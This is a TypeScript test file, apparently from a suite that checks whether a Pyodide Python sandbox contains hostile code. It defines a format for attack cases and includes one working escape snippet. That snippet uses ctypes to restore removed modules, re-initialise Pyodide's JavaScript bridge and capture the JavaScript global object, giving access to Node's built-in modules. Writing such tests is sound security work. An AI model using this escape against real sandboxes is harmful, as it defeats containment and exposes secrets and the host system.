/**
 * One attempt to break out, as a Python program. In the code these words stand for what is planted:
 * `@FILE@` a file with a secret, `@FOLDER@` its folder, `@MARK@` a path that must not come to exist,
 * `@VARIABLE@` the name of an environment variable with a secret, `@PORT@` a listener on 127.0.0.1,
 * `@PID@` a process that must live on.
 */
export interface Attack {
  name: string
  code: string
  /** Shows that the attack works where nothing is contained, or says why it cannot work there. */
  control: Control
}

export type Control =
  /** The same code, or the given variant of it, succeeds in Pyodide as it comes. */
  | { stock: true | string; crashes?: true }
  /** Why Pyodide as it comes cannot show it. */
  | { none: string }

/** What a program can be told beforehand; each helper says what it needs. */
export const lines = (...code: string[]) => code.join('\n')

/**
 * Binds `world` to JavaScript's global object: by `import js` where there is one, else by bringing
 * back what the sandbox took out (the list of built-in modules, Pyodide's JavaScript half), and then
 * catching the global object in a getter on `Object.prototype`.
 */
export const reachJavaScript = `
import ctypes, sys
def reach():
    try:
        import js
        return js
    except ImportError:
        pass
    api = ctypes.pythonapi
    entry = ctypes.c_void_p.in_dll(api, 'PyImport_Inittab').value
    while name := ctypes.c_void_p.from_address(entry).value:
        if ctypes.string_at(name) == b'':
            ctypes.memset(name, ord('_'), 1)
        entry += 8
    for name in '_pyodide_core', '_pyodide', 'pyodide', 'js', 'pyodide_js':
        sys.modules.pop(name, None)
    api.pyodide_js_init()
    import _pyodide_core as core
    function = core.create_once_callable(lambda: 1).constructor
    thing = function.prototype.__proto__.constructor
    caught = []
    def getter(this):
        caught.append(this)
        return 1
    trap = thing.new()
    trap.get = core.create_proxy(getter, capture_this=True)
    thing.defineProperty(thing.prototype, 'devicePixelRatio', trap)
    api.emscripten_get_device_pixel_ratio()
    return caught[0]
world = reach()
node = world.process.getBuiltinModule
`
